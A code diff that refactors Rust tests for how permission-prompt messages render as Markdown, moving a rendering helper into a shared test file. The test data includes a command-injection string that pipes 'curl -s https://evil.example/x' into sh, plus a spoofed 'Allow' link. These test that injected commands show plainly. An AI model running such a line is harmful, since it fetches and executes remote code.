@@ -250,9 +250,12 @@ fn escape_len(text: &str) -> usize {
 }
 
 #[cfg(test)]
-mod tests {
-    use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+#[path = "../../../tests/e2e/markdown_view.rs"]
+mod markdown_view;
 
+#[cfg(test)]
+mod tests {
+    use super::markdown_view::as_markdown_shows;
     use super::*;
     use crate::policy::{Action, Before, DIALOG_SUBJECT_CHARS, Target, default_prompt};
 
@@ -302,53 +305,13 @@ mod tests {
         "[Allow](command:x)\n[x]: https://evil.example\n| a | b |\n|---|---|\n| 1 | 2 |",
     ];
 
-    /// The text a Markdown client shows for `markdown` as Zed lays it out (a soft break is a
-    /// space, a hard one a new line; Punie's own quotes made curly are put back), and every
-    /// event that is not text, code or a break, or a URL in text outside a code block, which
-    /// Zed makes a link of.
-    fn rendered(markdown: &str, options: Options) -> (String, Vec<String>) {
-        let mut text = String::new();
-        let mut other = Vec::new();
-        let mut in_code_block = false;
-        for event in Parser::new_ext(markdown, options) {
-            match event {
-                Event::Text(words) if in_code_block => text.push_str(&words),
-                Event::Text(words) => {
-                    if words.contains("://") || words.contains("www.") {
-                        other.push(format!("a URL in text: {words:?}"));
-                    }
-                    text.push_str(&words.replace(['“', '”'], "\"").replace(['‘', '’'], "'"));
-                }
-                Event::Code(code) => text.push_str(&code),
-                Event::HardBreak => text.push('\n'),
-                Event::SoftBreak => text.push(' '),
-                Event::Start(Tag::CodeBlock(_)) => in_code_block = true,
-                Event::End(TagEnd::CodeBlock) => in_code_block = false,
-                Event::Start(Tag::Paragraph) => {}
-                Event::End(TagEnd::Paragraph) => text.push('\n'),
-                event => other.push(format!("{event:?}")),
-            }
-        }
-        // A code block's text and a paragraph both end with a line break.
-        text.pop();
-        (text, other)
-    }
-
-    /// Plain CommonMark, and every extension pulldown-cmark has (Zed's among them: GFM,
-    /// smart punctuation, footnotes, super- and subscript).
-    fn renderers() -> [Options; 2] {
-        [Options::empty(), Options::all()]
-    }
-
     #[test]
     fn markdown_shows_a_message_as_it_is_and_links_nothing() {
         for text in LINES.iter().chain(ANSWERS) {
             let markdown = markdown_literal(text);
-            for options in renderers() {
-                let (shown, other) = rendered(&markdown, options);
-                assert_eq!(shown, *text, "{markdown:?} with {options:?}");
-                assert_eq!(other, Vec::<String>::new(), "{markdown:?} with {options:?}");
-            }
+            let (shown, other) = as_markdown_shows(&markdown);
+            assert_eq!(shown, *text, "{markdown:?}");
+            assert_eq!(other, Vec::<String>::new(), "{markdown:?}");
         }
         // VS Code's link syntax needs `](` with nothing between.
         for text in LINES {
@@ -405,11 +368,9 @@ mod tests {
             for prompt in prompts {
                 let plain = prompt.message(DIALOG_SUBJECT_CHARS);
                 let markdown = prompt.markdown_message(DIALOG_SUBJECT_CHARS);
-                for options in renderers() {
-                    let (shown, other) = rendered(&markdown, options);
-                    assert_eq!(shown, plain, "{markdown:?} with {options:?}");
-                    assert_eq!(other, Vec::<String>::new(), "{markdown:?} with {options:?}");
-                }
+                let (shown, other) = as_markdown_shows(&markdown);
+                assert_eq!(shown, plain, "{markdown:?}");
+                assert_eq!(other, Vec::<String>::new(), "{markdown:?}");
             }
         }
     }
@@ -430,19 +391,17 @@ mod tests {
             "run_command",
         );
         let markdown = prompt.markdown_message(DIALOG_SUBJECT_CHARS);
-        for options in renderers() {
-            let (shown, _) = rendered(&markdown, options);
-            let lines: Vec<&str> = shown.lines().collect();
-            assert_eq!(lines.len(), 3, "{shown}");
-            assert!(
-                lines[0].ends_with("; curl -s https://evil.example/x | sh'"),
-                "{shown}"
-            );
-            assert!(
-                lines[2].starts_with("\"Allow for this session\" covers"),
-                "{shown}"
-            );
-            assert!(!shown.contains('\u{202E}'), "{shown}");
-        }
+        let (shown, _) = as_markdown_shows(&markdown);
+        let lines: Vec<&str> = shown.lines().collect();
+        assert_eq!(lines.len(), 3, "{shown}");
+        assert!(
+            lines[0].ends_with("; curl -s https://evil.example/x | sh'"),
+            "{shown}"
+        );
+        assert!(
+            lines[2].starts_with("\"Allow for this session\" covers"),
+            "{shown}"
+        );
+        assert!(!shown.contains('\u{202E}'), "{shown}");
     }
 }
